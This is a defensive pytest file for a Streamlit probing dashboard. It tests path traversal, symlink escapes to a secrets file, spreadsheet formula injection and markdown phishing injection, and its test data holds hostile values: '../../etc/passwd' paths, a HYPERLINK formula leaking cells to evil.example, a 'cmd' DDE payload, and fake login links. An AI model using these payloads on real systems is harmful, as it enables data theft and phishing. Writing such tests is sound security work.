"""Security: path traversal (upload names, workspace ids, link parameters), oversized uploads, no data before login."""

import csv
import io
import os
import re
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from streamlit import config
from streamlit.testing.v1 import AppTest

from conftest import ROOT, run_page
from probing import ProbingInputError, load_activations
from probing.coherence import coherence_report
from probing.io import csvsafe
from probing.io.interop import write_projector_tsv
from probing.steering import steering_sweep
from probing.store import Workspace
from probing.synthetic import make_concept_embeddings
from test_auth import TOKEN

TRAVERSAL_NAMES = ["../../etc/passwd.npy", "..\\..\\windows\\win.ini.npy", "/etc/passwd.npy", "....//....//x.npy",
                   "%2e%2e%2f%2e%2e%2fx.npy"]
TRAVERSAL_IDS = ["../../x", "..", "/etc/passwd", "0123abcd/../../x", "0123ABCD", "0123abcd\x00", "../" * 8 + "etc",
                 "0123abcd.safetensors", "", None, 12345678]


def npy_bytes(n=40, d=6, seed=0) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.random.default_rng(seed).standard_normal((n, d)).astype(np.float32))
    return buffer.getvalue()


def files_under(root: Path) -> set[Path]:
    return {p.relative_to(root) for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def sandbox(tmp_path, monkeypatch):
    """Run from ``tmp_path/a/b`` so a write to ``../../<name>`` would land inside ``tmp_path``, where we look."""
    cwd = tmp_path / "a" / "b"
    cwd.mkdir(parents=True)
    monkeypatch.chdir(cwd)
    return tmp_path


@pytest.mark.parametrize("name", TRAVERSAL_NAMES)
def test_upload_file_names_are_never_used_as_paths(sandbox, name):
    at = run_page("data")
    at.file_uploader(key="upload_file").set_value((name, npy_bytes(), "application/octet-stream"))
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    active = at.session_state["dataset"]
    assert active.shape == (40, 1, 6)
    written = files_under(sandbox)
    stored = {Path("workspace/datasets") / f"{active.fingerprint}.safetensors"}
    assert stored <= written
    assert all(p.parts[0] == "workspace" for p in written), f"files outside the workspace: {written}"
    assert all(re.fullmatch(r"[0-9a-f]+\.(safetensors|json)", p.name) for p in written if p.parts[1] == "datasets")


@pytest.mark.parametrize("bad_id", TRAVERSAL_IDS)
def test_workspace_ids_cannot_name_a_path(sandbox, bad_id):
    ws = Workspace(sandbox / "workspace")
    (sandbox / "x").write_text("outside")
    before = files_under(sandbox)
    for call in (ws.load_dataset, ws.get_dataset, ws.delete_dataset, ws.load_result, ws.delete_result,
                 lambda i: ws.rename_dataset(i, "new")):
        with pytest.raises(ProbingInputError):
            call(bad_id)
    assert files_under(sandbox) == before


def test_result_names_are_not_file_names(sandbox):
    ws = Workspace(sandbox / "workspace")
    result_id = ws.save_result("probe_sweep", "../../x", {"layer": 1}, {"acc": [0.5]}, owner="../../owner")
    assert files_under(sandbox / "workspace" / "results") == {Path(f"{result_id}.json")}
    assert ws.load_result(result_id).entry.name == "../../x"


@pytest.mark.parametrize("value", ["../../etc/passwd", "..%2f..%2fx", "0123abcd/../../x", "/etc/passwd"])
def test_link_parameters_cannot_name_a_path(sandbox, value):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    at.query_params["dataset"] = value
    at.run()
    assert not at.exception
    default = at.session_state["dataset"]
    assert default.name == "sentiment" or default.name.startswith("synthetic")
    assert all(p.parts[0] == "workspace" for p in files_under(sandbox))


def test_a_crafted_link_cannot_put_an_image_or_link_in_its_warning():
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    at.query_params["dataset"] = "![](https://evil.example/p.png)[log in](https://evil.example)"
    at.run()
    assert not at.exception
    warning = next(w.value for w in at.warning if "is not a dataset fingerprint" in w.value)
    assert "evil.example" not in warning and not re.search(r"(?<!\\)(!\[|\]\()", warning), warning


def test_an_error_quoting_a_shared_name_shows_it_literally():
    """A damaged dataset with a hostile name, opened by a colleague's link: the error names it, as text."""
    aset = hostile_dataset()
    ws = Workspace()
    ws.add_dataset(aset)
    path = ws.root / "datasets" / f"{aset.fingerprint}.safetensors"
    path.write_bytes(path.read_bytes()[:200])
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    at.query_params["dataset"] = aset.fingerprint
    at.run()
    assert not at.exception
    texts = [w.value for w in at.warning] + [e.value for e in at.error]
    assert texts and not [t for t in texts if "evil.example" in t or "://" in t.replace("\\", "")], texts


def test_oversized_upload_is_rejected_with_a_message_and_keeps_the_data():
    at = run_page("data")
    before = at.session_state["dataset"].fingerprint
    limit_mb = config.get_option("server.maxUploadSize")
    config.set_option("server.maxUploadSize", 1)  # as STREAMLIT_SERVER_MAX_UPLOAD_SIZE=1 would
    try:
        at.file_uploader(key="upload_file").set_value(("big.npy", npy_bytes(n=5000, d=64), "application/octet-stream"))
        at.run()
    finally:
        config.set_option("server.maxUploadSize", limit_mb)
    assert not at.exception
    assert len(at.error) == 1 and "big.npy" in at.error[0].value and "1.0 MB limit" in at.error[0].value
    assert at.session_state["dataset"].fingerprint == before
    assert Workspace().list_datasets() == []


def test_load_activations_size_limit_from_the_environment(monkeypatch):
    data = npy_bytes(n=5000, d=64)  # 1.2 MB
    monkeypatch.setenv("PROBING_MAX_UPLOAD_MB", "1")
    with pytest.raises(ProbingInputError, match="over the 1.0 MB limit.*PROBING_MAX_UPLOAD_MB"):
        load_activations(io.BytesIO(data))
    monkeypatch.setenv("PROBING_MAX_UPLOAD_MB", "2")
    assert load_activations(io.BytesIO(data)).shape == (5000, 1, 64)


def app_pages() -> list[str]:
    """The pages the router serves (``dashboard/views/<name>.py`` listed in ``app.py``)."""
    router = (ROOT / "app.py").read_text()
    return sorted(p.stem for p in (ROOT / "dashboard" / "views").glob("*.py") if f'"dashboard/views/{p.name}"' in router)


@pytest.mark.parametrize("mode", ["token", "oidc"])
def test_no_page_renders_anything_before_login(monkeypatch, mode):
    saved, _ = make_concept_embeddings(n_samples=50, d=4, n_layers=1, seed=0, name="secret lab data")
    Workspace().add_dataset(saved, owner="ada")
    pages = app_pages()
    assert len(pages) >= 10
    for page in pages:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
        if mode == "token":
            monkeypatch.setenv("PROBING_ACCESS_TOKEN", TOKEN)
        else:
            at.secrets["auth"] = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "c" * 32,
                                  "client_id": "x", "client_secret": "y", "server_metadata_url": "http://127.0.0.1:1/"}
            at.user = {"is_logged_in": False}
        at.query_params["dataset"] = saved.fingerprint
        at.switch_page(f"dashboard/views/{page}.py")
        at.run()
        assert not at.exception, (page, at.exception)
        assert "dataset" not in at.session_state and "datasets" not in at.session_state, page
        shown = [e for kind in ("vega_lite_chart", "dataframe", "table", "metric", "tabs", "selectbox", "slider",
                                "file_uploader", "download_button") for e in at.get(kind)]
        assert not shown, (page, shown)
        text = " ".join(str(getattr(e, "value", "")) for kind in ("markdown", "caption", "title", "header", "subheader")
                        for e in at.get(kind))
        assert "secret lab data" not in text and saved.fingerprint not in text
        assert [t.value for t in at.title] == ["probing"], page


# Server paths stay inside their roots, symlinks included (issue 15, item 6). The stand-in secret is ASCII text
# sized as one raw Zarr chunk (8 x 1 x 8 float32 = 256 bytes), so a store whose chunk file links to it would serve
# its bytes back as activations.
SECRET = (b'[auth]\ncookie_secret = "' + b"s3cr3t" * 40)[:254] + b'"\n'
assert len(SECRET) == 256
OPENED: list | None = None


def _record_opens(event, args):
    if OPENED is not None and event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
        OPENED.append(os.fsdecode(args[0]))


sys.addaudithook(_record_opens)


@pytest.fixture
def data_roots(tmp_path):
    """An allowed folder, and a secret file outside it."""
    allowed, outside = tmp_path / "data", tmp_path / "app" / ".streamlit"
    allowed.mkdir()
    outside.mkdir(parents=True)
    (outside / "secrets.toml").write_bytes(SECRET)
    return allowed, outside / "secrets.toml"


def zarr_store_with_linked_chunk(store: Path, secret: Path) -> Path:
    """A raw (uncompressed) Zarr store of shape (24, 1, 8) whose first chunk file is a link to ``secret``."""
    import zarr

    group = zarr.open_group(str(store), mode="w", zarr_format=3)
    group.create_array("acts", data=np.ones((24, 1, 8), np.float32), chunks=(8, 1, 8), compressors=None)
    chunk = store / "acts" / "c" / "0" / "0" / "0"
    assert chunk.stat().st_size == len(SECRET)
    chunk.unlink()
    chunk.symlink_to(secret)
    return chunk


def opened_during(call) -> tuple[list[str], Exception | None]:
    """The real paths of the files ``call`` opened (Python's ``open`` audit events), and what it raised."""
    global OPENED
    OPENED, error = [], None
    try:
        call()
    except Exception as exc:  # returned to the test, which checks it
        error = exc
    finally:
        seen, OPENED = [os.path.realpath(p) for p in OPENED], None
    return seen, error


def test_the_linked_chunk_attack_is_live_without_roots(data_roots):
    """Without roots (a laptop) the link is followed and the secret comes back as numbers: the attack is real."""
    allowed, secret = data_roots
    zarr_store_with_linked_chunk(allowed / "acts.zarr", secret)
    found = []
    seen, error = opened_during(lambda: found.append(np.asarray(load_activations(allowed / "acts.zarr").acts[:8])))
    assert error is None and found[0].tobytes() == SECRET
    assert str(secret.resolve()) in seen, "the audit hook sees the secret being opened"


@pytest.mark.parametrize("layout", ["zarr", "zarr_in_shard_folder", "shard_folder", "nested_folder", "glob"])
def test_symlinks_inside_the_roots_are_refused_and_the_secret_never_read(data_roots, layout):
    allowed, secret = data_roots
    np.save(allowed / "shard_0.npy", np.ones((24, 8), np.float32))
    if layout == "zarr":
        target = allowed / "acts.zarr"
        zarr_store_with_linked_chunk(target, secret)
    elif layout == "zarr_in_shard_folder":
        (allowed / "run").mkdir()
        np.save(allowed / "run" / "0.npy", np.ones((24, 1, 8), np.float32))
        zarr_store_with_linked_chunk(allowed / "run" / "1.zarr", secret)
        target = allowed / "run"
    elif layout == "nested_folder":
        (allowed / "run" / "deep").mkdir(parents=True)
        (allowed / "run" / "0.npy").write_bytes((allowed / "shard_0.npy").read_bytes())
        (allowed / "run" / "deep" / "x.npy").symlink_to(secret)
        target = allowed / "run"
    else:
        (allowed / "shard_1.npy").symlink_to(secret)
        target = allowed if layout == "shard_folder" else allowed / "shard_*.npy"
    seen, error = opened_during(lambda: load_activations(target, roots=[allowed]))
    assert isinstance(error, ProbingInputError) and "symbolic link leading outside the folders" in str(error), error
    assert str(secret.resolve()) not in seen


def test_links_that_stay_inside_are_refused_too_and_special_files_never_opened(data_roots):
    allowed, _ = data_roots
    (allowed / "run").mkdir()
    np.save(allowed / "run" / "0.npy", np.ones((24, 8), np.float32))
    (allowed / "run" / "1.npy").symlink_to(allowed / "run" / "0.npy")
    with pytest.raises(ProbingInputError, match="is a symbolic link. Links inside a data folder"):
        load_activations(allowed / "run", roots=[allowed])
    (allowed / "run" / "1.npy").unlink()
    os.mkfifo(allowed / "run" / "2.npy")  # reading a pipe would block the server forever
    with pytest.raises(ProbingInputError, match="not a regular file"):
        load_activations(allowed / "run", roots=[allowed])
    (allowed / "run" / "2.npy").unlink()
    assert load_activations(allowed / "run", roots=[allowed]).shape == (24, 1, 8)


def test_a_link_swapped_in_after_the_check_is_not_followed(data_roots):
    """The walk happens before opening; files are then opened with O_NOFOLLOW, so a link raced in is refused."""
    from probing.io.files import load_file

    allowed, secret = data_roots
    (allowed / "late.npy").symlink_to(secret)
    with pytest.raises(ProbingInputError, match="symbolic link; links are not followed"):
        load_file(allowed / "late.npy", 2**20, follow_links=False)


def test_a_side_labels_path_is_held_to_the_roots_too(data_roots):
    allowed, secret = data_roots
    np.save(allowed / "acts.npy", np.ones((24, 8), np.float32))
    (allowed / "labels.csv").symlink_to(secret)
    seen, error = opened_during(lambda: load_activations(allowed / "acts.npy", labels_csv=allowed / "labels.csv",
                                                         roots=[allowed]))
    assert isinstance(error, ProbingInputError) and "outside the folders" in str(error), error
    assert str(secret.resolve()) not in seen
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers():
    df = pd.DataFrame({"text": FORMULAS, "score": [-0.5, 1.0, -3e-7, 2.0, -1.0, 0.0], "n": np.arange(-3, 3),
                       "as_text": ["-0.5", "+3e-2", "-.5", "x-y", "=1", "plain"],
                       "category": pd.Categorical(["=a", "b", "=a", "b", "b", "b"]),
                       "row_break": ["x\r=1+1", "x\n=1+1", "a", "b", "c", "d"]})
    df["=evil header"] = "ok"
    rows = list(csv.reader(io.StringIO(csvsafe.to_csv(df), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["text", "score", "n", "as_text", "category", "row_break", "'=evil header"]
    assert len(body) == 6 and [r[5] for r in body[:2]] == ["x\r=1+1", "x\n=1+1"], "a line break cannot start a row"
    assert [r[0] for r in body] == ["'" + f for f in FORMULAS]
    assert [float(r[1]) for r in body] == df["score"].tolist(), "negative floats are numbers, not formulas"
    assert [int(r[2]) for r in body] == [-3, -2, -1, 0, 1, 2]
    assert [r[3] for r in body] == ["-0.5", "+3e-2", "-.5", "x-y", "'=1", "plain"]
    assert [r[4] for r in body] == ["'=a", "b", "'=a", "b", "b", "b"]


def test_projector_metadata_tsv_is_safe_in_a_spreadsheet():
    aset, _ = make_concept_embeddings(n_samples=6, d=3, n_layers=1, seed=0)
    aset = aset.with_labels(**{"=cmd": np.array(FORMULAS, dtype=object), "score": np.linspace(-1, 1, 6)})
    _, metadata = write_projector_tsv(aset)
    rows = [line.split("\t") for line in metadata.decode().splitlines()]
    column = rows[0].index("'=cmd")
    assert [r[column].lstrip("'") for r in rows[1:]] == [" =1+1" if f[0] in "\t\r" else f for f in FORMULAS]
    assert all(r[column].startswith("'") for r, f in zip(rows[1:], FORMULAS) if f[0] not in "\t\r")
    score = rows[0].index("score")
    assert [float(r[score]) for r in rows[1:]] == pytest.approx(np.linspace(-1, 1, 6), abs=1e-6)


PAYLOAD = "x ![](https://evil.example/p.png) [Session expired: log in](https://evil.example/login)"
MARKDOWN_KINDS = ("markdown", "caption", "title", "header", "subheader", "success", "info", "warning", "error")
WIDGET_KINDS = ("checkbox", "toggle", "button", "selectbox", "multiselect", "radio", "slider", "select_slider",
                "text_input", "text_area", "number_input", "metric", "download_button", "expander", "tab")


def hostile_dataset():
    """A dataset whose name, layer names, label names and text meta all carry a tracking image and a phishing link."""
    from probing import ActivationSet

    base, _ = make_concept_embeddings(n_samples=120, d=8, n_layers=2, seed=0)
    labels = {f"label {PAYLOAD}": base.label("label")}
    meta = pd.DataFrame({"text": [f"{PAYLOAD} {i}" for i in range(base.n_samples)]})
    return ActivationSet(base.acts, [f"layer 0 {PAYLOAD}", f"layer 1 {PAYLOAD}"], labels, meta, name=PAYLOAD)


def rendered_markdown(at) -> list[str]:
    """Every string the page hands to Streamlit's markdown renderer: text elements, widget labels and help."""
    texts = [str(e.value) for kind in MARKDOWN_KINDS for e in at.get(kind)]
    for kind in WIDGET_KINDS:
        for e in at.get(kind):
            texts += [str(getattr(e, attr, None) or "") for attr in ("label", "help")]
    return texts


def test_names_teammates_typed_render_literally_on_every_page():
    aset = hostile_dataset()
    Workspace().add_dataset(aset, owner="mallory")
    Workspace().save_result("probe_sweep", PAYLOAD, {"label": "label"}, {"tables": {PAYLOAD: [{"layer": "a"}]}},
                            owner="mallory", fingerprint=aset.fingerprint)
    shown_on, leaks = [], {}
    for page in app_pages():
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
        at.run()
        at.session_state["datasets"] = {**at.session_state["datasets"], aset.name: aset}
        at.session_state["dataset"] = aset
        at.switch_page(f"dashboard/views/{page}.py")
        at.run()
        assert not at.exception, (page, [e.value for e in at.exception])
        texts = rendered_markdown(at)
        leaks[page] = [t for t in texts if "evil.example" in t or re.search(r"(?<!\\)(!\[|\]\()", t)
                       or "://" in t.replace("\\", "")]  # a bare URL becomes a link in the browser
        if any("evil\\.example" in t for t in texts):
            shown_on.append(page)
    assert not any(leaks.values()), {page: texts for page, texts in leaks.items() if texts}
    assert len(shown_on) >= 8, f"the hostile name is shown (escaped) on only {shown_on}"


def test_coherence_report_refuses_more_rows_than_max_rows_before_any_work():
    D = np.random.default_rng(0).standard_normal((301, 4))
    with pytest.raises(ProbingInputError, match=r"D has 301 rows, more than the 300 allowed.*45,150 pairs.*subset"):
        coherence_report(D, max_rows=300, baseline_draws=0)
    assert coherence_report(D[:300], max_rows=300, baseline_draws=0).k == 300


def test_steering_sweep_refuses_too_many_or_too_long_texts_before_loading_the_model():
    with pytest.raises(ProbingInputError, match=r"Got 201 texts with 201 characters.*at most 200 texts and 40,000 "
                                                r"characters.*603 runs.*fewer or shorter"):
        steering_sweep(["a"] * 201, 1, np.zeros(384), [-1, 0, 1], readout=None, max_texts=200, max_chars=40_000)
    with pytest.raises(ProbingInputError, match=r"Got 1 texts with 25,000,000 characters.*40,000 characters"):
        steering_sweep(["x" * 25_000_000], 1, np.zeros(384), [0], readout=None, max_texts=200, max_chars=40_000)


def test_coherence_page_refuses_an_uploaded_matrix_with_too_many_rows():
    at = run_page("coherence")
    at.radio(key="coh_source").set_value("Upload a matrix").run()
    big = io.BytesIO()
    np.save(big, np.random.default_rng(0).standard_normal((20_001, 2)).astype(np.float32))
    at.file_uploader(key="coh_upload").set_value(("W_dec.npy", big.getvalue(), "application/octet-stream")).run()
    assert not at.exception
    assert any("D has 20,001 rows, more than the 20,000 allowed" in e.value for e in at.error), [e.value for e in at.error]
    assert not any(m.label == "mutual coherence μ" for m in at.metric)


def test_one_heavy_computation_per_session(monkeypatch):
    """While the session's first computation still runs, a second run says so and starts nothing."""
    from dashboard import widgets

    class AnotherRunHoldsIt(widgets.Busy):
        def claim(self, session, thread):
            return False

    at = run_page("coherence")
    at.radio(key="coh_source").set_value("Random vectors").run()
    monkeypatch.setattr(widgets, "BUSY_WAIT_S", 0.2)
    monkeypatch.setattr(widgets, "BUSY", AnotherRunHoldsIt())
    at.number_input(key="coh_rand_seed").set_value(4242).run()  # a set no other test has computed (and cached)
    assert not at.exception
    assert any("still running" in w.value for w in at.warning), [w.value for w in at.warning]
    assert not any(m.label == "mutual coherence μ" for m in at.metric), "nothing was computed"
    monkeypatch.setattr(widgets, "BUSY", widgets.Busy())
    at.run()
    assert not at.warning and any(m.label == "mutual coherence μ" for m in at.metric)


def test_busy_lets_one_thread_per_session_in_and_nests():
    from dashboard.widgets import Busy

    busy = Busy()
    assert busy.claim("s", 1) and busy.claim("s", 1), "the same run may nest progress bars"
    assert not busy.claim("s", 2), "another run of the same session waits"
    assert busy.claim("t", 2), "other sessions are not affected"
    busy.release("s")
    assert not busy.claim("s", 2)
    busy.release("s")
    assert busy.claim("s", 2)


@pytest.mark.parametrize("user", [None, "bob"])
def test_only_the_owner_may_rename_or_delete_a_dataset_on_the_data_page(monkeypatch, user):
    from test_auth import TOKEN

    if user is not None:
        monkeypatch.setenv("PROBING_ACCESS_TOKEN", TOKEN)
    aset, _ = make_concept_embeddings(n_samples=40, d=4, n_layers=1, seed=3, name="ada's data")
    Workspace().add_dataset(aset, owner="ada")

    def setup(at):
        if user is not None:
            at.session_state["auth_user"] = user

    at = run_page("data", setup=setup)
    assert at.button(key="ws_rename").disabled and at.button(key="ws_delete").disabled
    assert at.checkbox(key="ws_confirm").disabled and at.text_input(key=f"ws_new_name_{aset.fingerprint}").disabled
    who = f"you are **{user}**" if user else "you are not logged in"
    assert any(f"Only **ada** can rename or delete it; {who}" in c.value for c in at.caption)


def test_the_owner_may_rename_and_delete_their_dataset(monkeypatch):
    from test_auth import TOKEN

    monkeypatch.setenv("PROBING_ACCESS_TOKEN", TOKEN)
    aset, _ = make_concept_embeddings(n_samples=40, d=4, n_layers=1, seed=3, name="ada's data")
    Workspace().add_dataset(aset, owner="ada")
    at = run_page("data", setup=lambda at: at.session_state.__setitem__("auth_user", "ada"))
    assert not at.button(key="ws_rename").disabled and not at.checkbox(key="ws_confirm").disabled
    assert not any("can rename or delete it" in c.value for c in at.caption)


@pytest.mark.browser
def test_a_hostile_name_opened_from_a_share_link_renders_as_text_in_the_browser(browser, tmp_path):
    """What the issue saw: a colleague opens the dataset by link; no tracking image, no phishing link, the name as text."""
    from conftest import wait_for_app
    from dashboard.local_server import served_app
    from dashboard.text import WORD_JOINER

    aset = hostile_dataset()
    Workspace(tmp_path / "ws").add_dataset(aset, owner=None)
    with served_app({"PROBING_WORKSPACE": str(tmp_path / "ws"), "PROBING_ACCESS_TOKEN": ""}) as (url, _):
        context = browser.new_context()
        page = context.new_page()
        try:
            for path in ("data", "probes", "pca"):
                page.goto(f"{url}/{path}?dataset={aset.fingerprint}")
                wait_for_app(page)
                shown = page.inner_text("[data-testid='stApp']").replace(WORD_JOINER, "")
                assert PAYLOAD in shown, f"the name is shown as typed on {path}"
                assert page.locator("img[src*='evil'], a[href*='evil']").count() == 0, path
        finally:
            context.close()
